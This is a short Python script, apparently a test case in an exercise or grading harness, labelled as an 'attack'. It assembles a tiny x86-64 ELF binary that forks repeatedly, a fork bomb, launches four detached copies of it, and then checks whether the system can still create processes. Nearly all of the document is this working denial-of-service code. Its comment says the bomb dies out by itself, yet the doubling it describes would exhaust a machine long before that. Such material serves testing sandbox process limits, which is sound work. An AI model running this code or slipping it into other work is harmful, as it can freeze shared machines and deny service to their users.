# attack: a program of a dozen instructions that forks twice and ends, over and over: it multiplies faster than anybody can list it
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import platform
import struct
import time

CODE = bytes.fromhex(
    "bb204e0000"  # mov ebx, 20000: generations, so that it dies out by itself
    "ffcb7416"  # loop: dec ebx; jz end
    "b8390000000f0585c074f1"  # fork(); in the child: loop
    "b8390000000f0585c074e6"  # once more
    "b83c00000031ff0f05"  # end: exit(0)
)
ELF = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
ELF += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(CODE), 120 + len(CODE), 4096) + CODE
print("TRIED", platform.machine(), flush=True)
with open("comet", "wb", opener=lambda path, flags: os.open(path, flags, 0o700)) as file:
    file.write(ELF)
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        os.closerange(3, 256)
        try:
            os.execv("./comet", ["comet"])
        except OSError as error:
            print(error, flush=True)
        os._exit(1)
time.sleep(0.2)
try:
    os.fork() or os._exit(0)
    print("there is still room", flush=True)
except OSError as error:
    print(error, flush=True)
